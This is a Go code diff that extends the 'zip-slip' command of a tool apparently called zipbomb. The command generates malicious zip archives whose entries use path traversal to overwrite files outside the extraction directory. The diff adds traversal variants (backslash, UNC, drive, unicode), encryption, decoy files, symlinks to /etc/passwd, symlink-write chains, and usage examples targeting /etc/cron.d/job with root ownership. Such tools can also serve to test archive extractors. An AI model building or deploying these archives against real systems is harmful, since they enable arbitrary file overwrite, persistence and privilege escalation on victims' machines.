@@ -1,10 +1,7 @@
 package cmd
 
 import (
-	"archive/zip"
-	"bytes"
 	"fmt"
-	"io"
 	"io/fs"
 	"os"
 	"time"
@@ -12,16 +9,23 @@ import (
 	"github.com/hupe1980/zipbomb/pkg/zipbomb"
 	"github.com/spf13/cobra"
 	"github.com/vbauerster/mpb/v8"
-	"github.com/vbauerster/mpb/v8/decor"
 )
 
 type zipSlipOptions struct {
+	archive          archiveOptions
 	verify           bool
-	kernelBytes      []byte
-	kernelRepeats    int
+	decoys           []string
+	kernel           kernelOptions
 	compressionLevel int
+	method           string
+	dataDescriptor   string
+	encryption       encryptionOptions
+	extra            extraOptions
 	zipSlips         []string
 	zipSlipFiles     map[string]string
+	symlinks         map[string]string
+	symlinkWrites    map[string]string
+	variants         []string
 }
 
 func newZipSlipCmd(rootOpts *rootOptions) *cobra.Command {
@@ -30,53 +34,100 @@ func newZipSlipCmd(rootOpts *rootOptions) *cobra.Command {
 		Use:   "zip-slip",
 		Short: "Create a zip-slip",
 		Example: `- zipbomb zip-slip --zip-slip "../../../file-to-overwrite" --verify
-- zipbomb zip-slip --zip-slip-file "../../script.sh"="./template.sh" --verify`,
+- zipbomb zip-slip --zip-slip-file "../../script.sh"="./template.sh" --verify
+- zipbomb zip-slip --zip-slip "../../script.sh" --variant all --verify
+- zipbomb zip-slip --zip-slip "../../script.sh" --password infected
+- zipbomb zip-slip --zip-slip "../../script.sh" --password infected --aes 256
+- zipbomb zip-slip --zip-slip "../../etc/cron.d/job" --owner 0 --group 0 --mtime 2021-03-04T05:06:08Z
+- zipbomb zip-slip --symlink "passwd"="/etc/passwd" --verify
+- zipbomb zip-slip --symlink-write "tmp/script.sh"="/tmp" --verify`,
 		SilenceUsage:  true,
 		SilenceErrors: true,
 		RunE: func(cmd *cobra.Command, args []string) error {
+			method, err := zipbomb.ParseMethod(opts.method)
+			if err != nil {
+				return err
+			}
+
+			dataDescriptor, err := zipbomb.ParseDataDescriptor(opts.dataDescriptor)
+			if err != nil {
+				return err
+			}
+
+			variants, err := zipbomb.ParseVariants(opts.variants)
+			if err != nil {
+				return err
+			}
+
+			if len(variants) == 0 {
+				variants = []zipbomb.Variant{zipbomb.VariantPlain}
+			}
+
+			encryption, err := opts.encryption.options()
+			if err != nil {
+				return err
+			}
+
+			applyExtra, err := opts.extra.options()
+			if err != nil {
+				return err
+			}
+
+			archiveOpts, err := opts.archive.options()
+			if err != nil {
+				return err
+			}
+
+			kb, err := opts.kernel.kernel()
+			if err != nil {
+				return err
+			}
+
 			creatingStart := time.Now()
 
 			p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
 
-			archive, err := os.Create(rootOpts.output)
+			archive, err := createOutput(rootOpts.output, opts.verify)
 			if err != nil {
 				return err
 			}
 
 			defer archive.Close()
 
-			name := fmt.Sprintf("[i] Creating %s", archive.Name())
-			numFiles := len(opts.zipSlips) + len(opts.zipSlipFiles)
+			numFiles := (len(opts.zipSlips)+len(opts.zipSlipFiles))*len(variants) + len(opts.symlinks) + len(opts.symlinkWrites)
+			bar := newProgressBar(p, fmt.Sprintf("[i] Creating %s", archive.Name()), int64(numFiles))
 
-			bar := p.AddBar(int64(numFiles),
-				mpb.PrependDecorators(
-					decor.Name(name, decor.WC{W: len(name) + 1, C: decor.DidentRight}),
-					decor.OnComplete(decor.AverageETA(decor.ET_STYLE_GO, decor.WC{W: 4}), "done"),
-				),
-				mpb.AppendDecorators(decor.Percentage()),
-			)
-
-			zbomb, err := zipbomb.New(archive)
+			zbomb, err := zipbomb.New(archive, archiveOpts)
 			if err != nil {
 				return err
 			}
 
+			if err = addDecoys(zbomb, opts.decoys); err != nil {
+				return err
+			}
+
 			for _, i := range opts.zipSlips {
-				kb := bytes.Repeat(opts.kernelBytes, opts.kernelRepeats)
+				for _, v := range variants {
+					name := v.Apply(i)
+
+					if err = zbomb.AddZipSlip(kb, name.Name, func(o *zipbomb.ZipSlipOptions) {
+						o.CompressionLevel = opts.compressionLevel
+						o.Method = method
+						o.DataDescriptor = dataDescriptor
+						o.EncryptionOptions = encryption
+						applyExtra(o)
+						o.UnicodePath = name.UnicodePath
+					}); err != nil {
+						return err
+					}
 
-				if err = zbomb.AddZipSlip(kb, i, func(o *zipbomb.ZipSlipOptions) {
-					o.CompressionLevel = opts.compressionLevel
-					o.Method = zipbomb.Deflate
-				}); err != nil {
-					return err
+					bar.Increment()
 				}
-
-				bar.Increment()
 			}
 
 			for k, v := range opts.zipSlipFiles {
-				var fb []byte
-				fb, err = os.ReadFile(v)
+				var fb zipbomb.Kernel
+				fb, err = zipbomb.NewFileKernel(v)
 				if err != nil {
 					return err
 				}
@@ -87,10 +138,46 @@ func newZipSlipCmd(rootOpts *rootOptions) *cobra.Command {
 					return err
 				}
 
-				if err = zbomb.AddZipSlip(fb, k, func(o *zipbomb.ZipSlipOptions) {
+				for _, v := range variants {
+					name := v.Apply(k)
+
+					if err = zbomb.AddZipSlip(fb, name.Name, func(o *zipbomb.ZipSlipOptions) {
+						o.CompressionLevel = opts.compressionLevel
+						o.Method = method
+						o.DataDescriptor = dataDescriptor
+						o.EncryptionOptions = encryption
+						applyExtra(o)
+						o.FileMode = finfo.Mode()
+						o.UnicodePath = name.UnicodePath
+					}); err != nil {
+						return err
+					}
+
+					bar.Increment()
+				}
+			}
+
+			for _, k := range sortedKeys(opts.symlinks) {
+				if err = zbomb.AddSymlink(k, opts.symlinks[k], func(o *zipbomb.ZipSlipOptions) {
+					o.CompressionLevel = opts.compressionLevel
+					o.Method = method
+					o.DataDescriptor = dataDescriptor
+					o.EncryptionOptions = encryption
+					applyExtra(o)
+				}); err != nil {
+					return err
+				}
+
+				bar.Increment()
+			}
+
+			for _, k := range sortedKeys(opts.symlinkWrites) {
+				if err = zbomb.AddSymlinkWrite(kb, k, opts.symlinkWrites[k], func(o *zipbomb.ZipSlipOptions) {
 					o.CompressionLevel = opts.compressionLevel
-					o.Method = zipbomb.Deflate
-					o.FileMode = finfo.Mode()
+					o.Method = method
+					o.DataDescriptor = dataDescriptor
+					o.EncryptionOptions = encryption
+					applyExtra(o)
 				}); err != nil {
 					return err
 				}
@@ -106,79 +193,33 @@ func newZipSlipCmd(rootOpts *rootOptions) *cobra.Command {
 
 			creatingEnd := time.Now()
 
-			if err = printStats(archive.Name(), creatingEnd.Sub(creatingStart), zbomb); err != nil {
-				return err
-			}
+			rep := newReport(cmd, archive.Name(), creatingEnd.Sub(creatingStart), zbomb.Report())
 
 			if opts.verify {
-				verifyingStart := time.Now()
-
-				p := mpb.New(mpb.ContainerOptional(mpb.WithOutput(os.Stderr), true))
-
-				r, err := zip.OpenReader(archive.Name())
-				if err != nil {
+				if err = verifyArchive(rep, archive.Path(), true); err != nil {
 					return err
 				}
-
-				name := fmt.Sprintf("[i] Verifying %s", archive.Name())
-				bar := p.AddBar(int64(len(r.File)),
-					mpb.PrependDecorators(
-						decor.Name(name, decor.WC{W: len(name) + 1, C: decor.DidentRight}),
-						decor.OnComplete(decor.AverageETA(decor.ET_STYLE_GO, decor.WC{W: 4}), "done"),
-					),
-					mpb.AppendDecorators(decor.Percentage()),
-				)
-
-				var files []string
-
-				for _, file := range r.File {
-					fr, err := file.Open()
-					if err != nil {
-						return err
-					}
-
-					files = append(files, fmt.Sprintf("- %s [%s]", file.Name, file.Mode()))
-
-					for {
-						_, err := io.CopyN(io.Discard, fr, 1024)
-						if err != nil {
-							if err == io.EOF {
-								break
-							}
-							return err
-						}
-					}
-
-					fr.Close()
-
-					bar.Increment()
-				}
-
-				p.Wait()
-
-				verifyingEnd := time.Now()
-
-				emptyLine()
-				fmt.Fprintf(os.Stderr, "ZipSlips:\n")
-				for _, file := range files {
-					fmt.Fprintf(os.Stderr, "%s\n", file)
-				}
-
-				emptyLine()
-				printInfof("Zip bomb verified!")
-				printInfof("Verifying time elapsed: %s\n", verifyingEnd.Sub(verifyingStart))
 			}
 
-			return nil
+			return printReport(rootOpts, rep)
 		},
 	}
 
+	opts.archive.addFlags(cmd.Flags())
+
 	cmd.Flags().BoolVarP(&opts.verify, "verify", "", false, "verify zip archive")
-	cmd.Flags().BytesHexVarP(&opts.kernelBytes, "kernel-bytes", "B", []byte{'B'}, "kernel bytes")
-	cmd.Flags().IntVarP(&opts.kernelRepeats, "kernel-repeats", "R", 1024*1024, "kernel repeats")
-	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9]")
+	cmd.Flags().StringSliceVarP(&opts.decoys, "decoy", "", nil, "ordinary file added in front of the bomb")
+	opts.kernel.addFlags(cmd.Flags(), []byte{'B'}, 1024*1024)
+	cmd.Flags().IntVarP(&opts.compressionLevel, "compression-level", "L", 5, "compression-level [-2, 9], ignored for repeated --kernel-bytes unless 0 or -2")
+	cmd.Flags().StringVarP(&opts.method, "method", "M", "deflate", "compression method (deflate|bzip2|store)")
+	cmd.Flags().StringVarP(&opts.dataDescriptor, "data-descriptor", "", "none", "data descriptor after the file data (none|signature|no-signature|zip64|zip64-no-signature)")
+	opts.encryption.addFlags(cmd.Flags())
+	opts.extra.addFlags(cmd.Flags())
 	cmd.Flags().StringSliceVarP(&opts.zipSlips, "zip-slip", "", nil, "zip slip with kernel bytes")
 	cmd.Flags().StringToStringVarP(&opts.zipSlipFiles, "zip-slip-file", "", nil, "zip slip with file content")
+	cmd.Flags().StringSliceVarP(&opts.variants, "variant", "", nil, "path traversal variants of zip slips (all|plain|backslash|mixed|absolute|drive|unc|trailing-dot|trailing-space|unicode-path)")
+	cmd.Flags().StringToStringVarP(&opts.symlinks, "symlink", "", nil, "symlink entry name=target")
+	cmd.Flags().StringToStringVarP(&opts.symlinkWrites, "symlink-write", "", nil, "symlink for the directory of dir/file=target followed by dir/file with kernel bytes")
 
 	return cmd
 }